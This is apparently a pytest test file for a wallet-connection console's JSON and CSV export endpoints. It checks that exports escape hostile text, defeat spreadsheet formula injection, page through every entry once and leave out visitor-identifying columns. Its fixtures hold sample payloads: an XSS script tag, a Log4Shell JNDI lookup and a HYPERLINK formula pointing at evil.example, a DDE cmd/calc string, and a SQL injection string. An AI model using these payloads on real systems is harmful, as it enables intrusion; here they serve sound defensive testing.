"""The console's JSON and CSV: every entry once, and hostile text as text (docs/security.md, 22)."""

import asyncio
import csv
import io
from typing import Any

import pytest

from kisslock import Settings
from kisslock.composition.storage import open_storage
from kisslock.console import export, store
from kisslock.console.console import Console
from kisslock.log.entry import Entry
from kisslock.storage.engine import Storage
from tests.auth.conftest import Clock, status_and_code
from tests.console.conftest import OperatedSite
from tests.console.history import HOUR_MS, MINUTE_MS, create_entry, save_entries
from tests.console.test_recount import NoSessions

NOW_MS = 1_795_256_430_400
DEFAULT_SETTINGS = Settings.of()
HOSTILE_TEXTS = [
    "<script>alert(1)</script>",
    '=HYPERLINK("https://evil.example","Click")',
    "\x1b[31mred\x1b[0m",
    "${jndi:ldap://evil.example/a}",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'a,"b"\r\nc;=1',
]


@pytest.fixture
def site_at_now(site: OperatedSite, clock: Clock) -> OperatedSite:
    """Return a site at NOW."""
    clock.now = NOW_MS / 1000
    return site


def failed_entry(number: int, text: str) -> Entry:
    error = {"name": text, "message": text, "stack": f"{text}\n  at x"}
    wallet, flow = "=cmd", f"-flow-{number:016d}"
    return create_entry(
        at_ms=NOW_MS - number, level="error", code="X/Y", step="failed", wallet=wallet, flow=flow, error=error
    )


def read_csv(text: str) -> list[list[str]]:
    assert text.endswith("\r\n")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def test_the_json_response_for_error_groups_keeps_hostile_text_except_for_control_characters(
    site_at_now: OperatedSite,
) -> None:
    site_at_now.save_entries(*(failed_entry(number, text) for number, text in enumerate(HOSTILE_TEXTS)))
    response = site_at_now.sign_in_operator().client.get("/api/console/errors/groups?code=x/y")
    assert response.headers["content-type"] == "application/json"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "\x1b" not in response.text
    groups = response.json()["groups"]
    assert [group["message"] for group in groups] == HOSTILE_TEXTS
    assert response.json()["code"] == "X/Y"
    assert all(group["count"] == 1 and group["first_ms"] == group["last_ms"] for group in groups)


def test_a_csv_export_contains_hostile_text_but_no_cell_that_a_spreadsheet_reads_as_a_formula(
    site_at_now: OperatedSite,
) -> None:
    site_at_now.save_entries(*(failed_entry(number, text) for number, text in enumerate(HOSTILE_TEXTS)))
    response = site_at_now.sign_in_operator().client.get("/api/console/export.csv?what=entries&range=1h")
    column_names, *csv_rows = read_csv(response.text)
    assert column_names == [*export.ENTRY_COLUMNS]
    assert len(csv_rows) == len(HOSTILE_TEXTS)
    assert not [cell for row in csv_rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
    assert "\x1b" not in response.text
    by_column = [dict(zip(column_names, row, strict=True)) for row in reversed(csv_rows)]
    assert [row["message"].removeprefix("'") for row in by_column] == [
        text.replace("\x1b", "\\x1b") for text in HOSTILE_TEXTS
    ]
    assert {row["wallet"] for row in by_column} == {"'=cmd"}
    assert by_column[0]["flow"] == "'-flow-0000000000000000"


@pytest.mark.parametrize("what", ["funnel", "wallets", "errors", "entries"])
def test_a_csv_export_has_the_csv_media_type_and_a_file_name_with_the_table_and_the_range(
    site_at_now: OperatedSite, what: str
) -> None:
    client = site_at_now.sign_in_operator().client
    for name in ("1h", "24h", "7d", "30d"):
        response = client.get(f"/api/console/export.csv?what={what}&range={name}")
        assert response.status_code == 200
        assert response.headers["content-type"] == "text/csv; charset=utf-8; header=present"
        assert (
            response.headers["content-disposition"] == f'attachment; filename="kisslock-{what}-{name}-2026-11-21.csv"'
        )
        assert response.headers["cache-control"] == "no-store"
        assert len(read_csv(response.text)) == (5 if what == "funnel" else 1)


def test_an_export_contains_the_same_numbers_as_the_console(site_at_now: OperatedSite) -> None:
    flow = "f" * 20
    wallet_fields: dict[str, Any] = {"wallet": "rabby", "method": "extension", "flow": flow}
    site_at_now.save_entries(
        create_entry(at_ms=NOW_MS - 4, step="opened", flow=flow),
        create_entry(at_ms=NOW_MS - 3, step="requested", **wallet_fields),
        create_entry(at_ms=NOW_MS - 2, step="connected", duration_ms=1000, **wallet_fields),
        create_entry(at_ms=NOW_MS - 1, step="failed", level="warn", code="WALLET/REJECTED", **wallet_fields),
    )
    client = site_at_now.sign_in_operator().client

    def export_cells(table_name: str) -> list[list[str]]:
        return read_csv(client.get(f"/api/console/export.csv?what={table_name}").text)[1:]

    assert export_cells("funnel") == [["opened", "1"], ["wallet_chosen", "0"], ["requested", "1"], ["connected", "1"]]
    median = client.get("/api/console/wallets").json()["wallets"][0]["median_ms"]
    assert export_cells("wallets") == [["rabby", "extension", "1", "1", str(median), ""]]
    assert export_cells("errors") == [["WALLET/REJECTED", "1", *["0"] * 11, "1"]]
    assert export_cells("entries")[2] == [
        "3", "2026-11-21T10:20:30.398Z", "debug", "", "connected", "rabby", "extension", "1000", flow, "", "", "",
    ]  # fmt: skip
    assert '"id","time"' in client.get("/api/console/export.csv?what=entries").text
    assert '\r\n3,"2026-' in client.get("/api/console/export.csv?what=entries").text


@pytest.mark.parametrize("what", ["", "sessions", "entries;", "../entries", "ENTRIES"])
def test_the_error_for_an_unknown_table_lists_the_tables(site_at_now: OperatedSite, what: str) -> None:
    response = site_at_now.sign_in_operator().client.get("/api/console/export.csv", params={"what": what})
    assert status_and_code(response) == "400 console/unknown-export"
    assert "funnel, wallets, errors, entries" in response.json()["error"]["hint"]


@pytest.mark.parametrize("path", ["funnel", "wallets", "errors", "export.csv"])
def test_an_unknown_range_is_rejected(site_at_now: OperatedSite, path: str) -> None:
    assert (
        status_and_code(site_at_now.sign_in_operator().client.get(f"/api/console/{path}?range=1y"))
        == "400 console/unknown-range"
    )


def test_the_console_returns_no_groups_for_a_text_that_cannot_be_an_error_code(site_at_now: OperatedSite) -> None:
    client = site_at_now.sign_in_operator().client
    for error_code in ("", "' OR 1=1 --", "\x00", "X" * 10_000, "é", "\U0001f600"):
        response = client.get("/api/console/errors/groups", params={"code": error_code})
        assert (response.status_code, response.json()["groups"]) == (200, []), error_code


def test_an_export_contains_errors_whose_name_or_message_is_not_a_text(site_at_now: OperatedSite) -> None:
    site_at_now.save_entries(
        create_entry(at_ms=NOW_MS, error={"name": 1, "message": ["=1"], "stack": None}),
        create_entry(at_ms=NOW_MS + 1, error={"message": {"a": "é漢"}}),
    )
    response = site_at_now.sign_in_operator().client.get("/api/console/export.csv?what=entries&range=1h")
    assert read_csv(response.text)[1][-3:] == ["1", "['=1']", ""]


async def test_an_export_contains_every_entry_of_a_range_once_across_all_pages(
    storage: Storage, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "ROWS_PER_PAGE", 7)
    # Many entries have the same time, some are stored later than entries with a later time, and two are just outside of
    # the range.
    times_ms = [NOW_MS - 59 * MINUTE_MS - 30_400 + (number * number % 23) for number in range(200)]
    times_ms += [NOW_MS - HOUR_MS, NOW_MS - 59 * MINUTE_MS - 30_401, NOW_MS + 1, NOW_MS]
    await save_entries(storage, [create_entry(at_ms=at_ms, step="opened") for at_ms in times_ms])
    console = Console(DEFAULT_SETTINGS, storage, NoSessions(), clock=lambda: NOW_MS / 1000)
    page_sizes: list[int] = []
    page = store.read_entries_page

    async def read_and_count(*arguments: Any) -> Any:
        page_rows = await page(*arguments)
        page_sizes.append(len(page_rows))
        return page_rows

    monkeypatch.setattr(store, "read_entries_page", read_and_count)
    last_hour = console.window("1h")
    text = "".join([part.decode() async for part in console.export_table("entries", last_hour)])
    _, *exported_rows = read_csv(text)
    expected_rows = sorted(
        (at_ms, number) for number, at_ms in enumerate(times_ms, 1) if last_hour.from_ms <= at_ms <= last_hour.to_ms
    )
    assert [int(row[0]) for row in exported_rows] == [number for _, number in expected_rows]
    assert len(exported_rows) == 201
    assert max(page_sizes) == 7


async def test_entries_that_arrive_during_an_export_do_not_make_the_export_endless(tmp_path: Any) -> None:
    storage = open_storage(f"sqlite:///{tmp_path / 'growing.db'}")
    await save_entries(storage, [create_entry(at_ms=NOW_MS - 5, step="opened")])
    console = Console(DEFAULT_SETTINGS, storage, NoSessions(), clock=lambda: NOW_MS / 1000)
    part_count = 0
    async with asyncio.timeout(20):
        async for _ in console.export_table("entries", console.window("1h")):
            part_count += 1
            await save_entries(storage, [create_entry(at_ms=NOW_MS + part_count, step="opened") for _ in range(300)])
    assert part_count == 2
    await storage.close()


def test_an_export_of_entries_has_no_column_that_identifies_a_visitor() -> None:
    assert not {"address", "ip", "user_agent", "cookie", "url"} & {*export.ENTRY_COLUMNS}
